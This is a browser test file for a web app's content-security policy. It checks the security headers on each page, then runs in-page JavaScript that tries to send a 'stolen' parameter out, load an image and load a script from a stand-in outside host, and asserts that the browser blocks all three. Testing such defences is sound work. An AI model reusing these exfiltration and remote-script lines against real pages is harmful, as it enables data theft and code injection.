"""Every page of a reader's visit runs under a policy that lets nothing in from elsewhere and nothing out."""

from collections.abc import Callable

import httpx
import pytest
from conftest import Visit
from visitor import Site

from geotracker.api.headers import PLAIN, Headers

pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("browser")]
BEGIN = Callable[..., Visit]


@pytest.mark.parametrize(
    "path", ["/", "/map", "/api/collections", "/vendor/leaflet/leaflet.js", "/no/such/page"]
)
def test_every_answer_carries_the_policy(site: Site, path: str) -> None:
    answer = httpx.get(site.address + path, timeout=20)
    assert answer.headers["content-security-policy"] == Headers(lambda *_: None).policy  # type: ignore[arg-type,return-value]
    assert {name: answer.headers[name] for name in PLAIN} == PLAIN


def test_a_page_can_send_nothing_elsewhere(visit: BEGIN, site: Site) -> None:
    here = visit().open("/?theatre=halcyon&date=2020-03-10")
    here.map()
    tried = here.page.evaluate(
        """async () => {
            const broken = [];
            document.addEventListener('securitypolicyviolation', (e) => broken.push(e.effectiveDirective));
            await fetch('http://127.0.0.2:9/?stolen=1').catch(() => null);
            const picture = document.createElement('img');
            picture.src = 'http://127.0.0.2:9/x.png';
            const script = document.createElement('script');
            script.src = 'http://127.0.0.2:9/x.js';
            document.body.append(picture, script);
            await new Promise((done) => setTimeout(done, 500));
            return broken;
        }"""
    )
    assert set(tried) == {"connect-src", "img-src", "script-src-elem"}
    here.faults.clear()  # the browser complains of just these three
